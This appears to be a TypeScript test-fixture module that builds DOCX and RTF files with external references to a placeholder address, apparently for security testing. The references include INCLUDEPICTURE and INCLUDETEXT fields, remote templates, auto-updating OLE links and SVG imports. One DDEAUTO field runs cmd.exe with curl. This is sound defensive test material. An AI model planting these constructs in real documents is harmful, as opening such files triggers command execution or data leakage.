import { DOCX, RTF } from '@creatorr/tool-kit/files/media-types';
import { docx } from '@creatorr/tools/testing/builders/ooxml';
import type { SecretFile } from '../../world.ts';
import { docxPart, docxPicture } from '../office-markup.ts';
import { ADDRESS, escaped, external, type LinkTable, linkTable } from './link-table.ts';

type Texts = Readonly<Record<string, string>>;

/** A docx with a body, or a part beside its text, that uses the relation rId9 of this type. */
const related = (kind: SecretFile, relation: string, bodies: Texts) =>
	linkTable(DOCX, kind, bodies, (body, address) => docx({ body, relations: external(relation, address) }));

const withPart = (kind: SecretFile, part: string, relation: string, contents: Texts) =>
	linkTable(DOCX, kind, contents, (content, address) =>
		docx(docxPart(part, content, external(relation, address))),
	);

const field = (instruction: string) =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${escaped(instruction)} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const fields = (kind: SecretFile, instructions: Texts) =>
	linkTable(
		DOCX,
		kind,
		instructions,
		(instruction) => docx({ body: field(instruction) }),
		(address) => address.replaceAll('\\', '\\\\'),
	);

/** A docx whose embedded SVG refers to the address. */
const drawings = (contents: Texts) =>
	linkTable(DOCX, 'png', contents, (content) =>
		docx({
			body: docxPicture('r:embed'),
			relations: [{ id: 'rId9', type: 'image', target: 'media/a.svg' }],
			extra: [{ name: 'word/media/a.svg', content }],
		}),
	);

const rtf = (kind: SecretFile, bodies: Texts) =>
	linkTable(
		RTF,
		kind,
		bodies,
		(body) => Buffer.from(`{\\rtf1\\ansi Harmless\\par ${body}}`),
		(address) => address.replaceAll('\\', '\\\\\\\\').replaceAll('{', ''),
	);

/** Links of docx and RTF. */
export const WORD: readonly LinkTable[] = [
	related('png', 'image', {
		'a picture of a docx': docxPicture('r:link'),
		'a picture of a docx in VML':
			'<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="rId9"/></v:shape></w:pict></w:r></w:p>',
	}),
	fields('png', { 'a picture field of a docx': `INCLUDEPICTURE "${ADDRESS}" \\d` }),
	fields('docx', { 'a text field of a docx': `INCLUDETEXT "${ADDRESS}"` }),
	fields('ods', { 'a link field of a docx': `LINK Excel.Sheet.12 "${ADDRESS}" "One!R1C1" \\a \\p` }),
	fields('text', {
		'a dynamic link of a docx': `DDEAUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/k curl ${ADDRESS}"`,
	}),
	withPart('docx', 'settings', 'attachedTemplate', {
		'the template of a docx': '<w:attachedTemplate r:id="rId9"/>',
	}),
	withPart('csv', 'settings', 'mailMergeSource', {
		'the mail merge of a docx':
			'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:dataSource r:id="rId9"/></w:mailMerge>',
	}),
	withPart('html', 'webSettings', 'frame', {
		'a frame of a docx': '<w:frameset><w:frame><w:sourceFileName r:id="rId9"/></w:frame></w:frameset>',
	}),
	related('html', 'aFChunk', { 'a part of a docx in another format': '<w:altChunk r:id="rId9"/>' }),
	related('docx', 'subDocument', { 'a part of a docx': '<w:p><w:subDoc r:id="rId9"/></w:p>' }),
	related('docx', 'hyperlink', {
		'a link of a docx': '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>',
	}),
	related('ods', 'oleObject', {
		'an object of a docx':
			'<w:p><w:r><w:object><v:shape id="s" style="width:90pt;height:90pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s" DrawAspect="Content" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>',
	}),
	drawings({
		'a drawing of a docx that links': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${ADDRESS}"/><use xlink:href="${ADDRESS}#a"/><style>@import "${ADDRESS}";</style></svg>`,
	}),
	rtf('png', {
		'a picture of an RTF': `{\\field{\\*\\fldinst INCLUDEPICTURE "${ADDRESS}" \\\\d}{\\fldrslt old}}`,
	}),
	rtf('docx', {
		'a text of an RTF': `{\\field{\\*\\fldinst INCLUDETEXT "${ADDRESS}"}{\\fldrslt old}}`,
		'the template of an RTF': `{\\*\\template ${ADDRESS}}text`,
	}),
	{ mimeType: RTF, kind: 'ods', documents: { 'an object of an RTF': rtfWithObject } },
];

function rtfWithObject(address: string): Buffer {
	const data = Buffer.from(`0105000001000000${address}`).toString('hex');
	return Buffer.from(
		`{\\rtf1\\ansi Harmless\\par {\\object\\objautlink\\objupdate{\\*\\objclass Excel.Sheet}{\\*\\objdata ${data}}{\\result old}}}`,
	);
}
